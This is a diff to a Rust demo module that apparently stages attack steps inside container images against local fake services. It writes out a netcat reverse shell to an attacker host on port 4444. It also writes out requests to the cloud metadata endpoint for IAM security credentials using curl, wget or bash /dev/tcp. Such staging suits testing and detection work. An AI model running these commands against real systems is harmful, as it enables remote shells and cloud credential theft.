@@ -3,7 +3,6 @@
 use std::{
     fs::{self, File},
     io::{self, Read, Write},
-    net::TcpStream,
     os::{
         fd::{AsRawFd, OwnedFd},
         unix::{
@@ -11,6 +10,7 @@ use std::{
             process::CommandExt,
         },
     },
+    path::Path,
 };
 
 use rustix::{
@@ -33,8 +33,6 @@ pub(in crate::demo) type Act = fn(&Image) -> Result<Output, InitError>;
 const DROPPED: &str = "/tmp/kdevtmpfsi";
 const ATTACKER_PORT: u16 = 4444;
 const METADATA_PORT: u16 = 80;
-const CREDENTIALS: &str =
-    "GET /latest/meta-data/iam/security-credentials/ HTTP/1.0\r\nHost: 169.254.169.254\r\n\r\n";
 
 /// The seventh word of `stat` is the controlling terminal: the first pseudo-terminal is device 136:0.
 const TYPED: &[u8] = b"read -r _ _ _ _ _ _ tty _ < /proc/$$/stat\necho controlled by $tty\nexit 0\n";
@@ -90,21 +88,27 @@ pub(in crate::demo) fn reverse_shell(image: &Image) -> Result<Output, InitError>
         }
         Image::Busybox(_) => {
             let port = ATTACKER_PORT.to_string();
-            run(command("/bin/busybox").args(["nc", &ATTACKER.to_string(), &port, "-e", "/bin/sh"]))?
+            run(command("nc").args([&ATTACKER.to_string(), &port, "-e", "/bin/sh"]))?
         }
     };
     output.stdout = heard(master)?;
     Ok(output)
 }
 
-pub(in crate::demo) fn ask_metadata(_: &Image) -> Result<Output, InitError> {
+/// With the tools an intruder finds in the image.
+pub(in crate::demo) fn ask_metadata(image: &Image) -> Result<Output, InitError> {
     let service = answer_once(METADATA, METADATA_PORT, b"HTTP/1.0 200 OK\r\n\r\nno-such-role\n")?;
-    let mut caller = TcpStream::connect((METADATA, METADATA_PORT)).to("reach the metadata service")?;
-    caller.write_all(CREDENTIALS.as_bytes()).to("ask the metadata service")?;
-    caller.shutdown(std::net::Shutdown::Write).to("end the question")?;
-    let mut stdout = String::new();
-    caller.take(OUTPUT_MAX).read_to_string(&mut stdout).to("read the metadata service's answer")?;
-    Ok(Output { code: 0, stdout, stderr: heard(service)? })
+    let url = format!("http://{METADATA}/latest/meta-data/iam/security-credentials/");
+    let has = |name: &str| ["/usr/bin", "/bin"].iter().any(|dir| Path::new(dir).join(name).exists());
+    let output = match image {
+        Image::Host if has("curl") => run(command("curl").args(["--silent", "--show-error", &url]))?,
+        Image::Host if !has("wget") => {
+            run(command("bash").args(["-c", &format!("cat < /dev/tcp/{METADATA}/{METADATA_PORT}")]))?
+        }
+        Image::Host | Image::Busybox(_) => run(command("wget").args(["-q", "-O", "-", &url]))?,
+    };
+    heard(service)?;
+    Ok(output)
 }
 
 fn heard(far_side: std::thread::JoinHandle<io::Result<String>>) -> Result<String, InitError> {
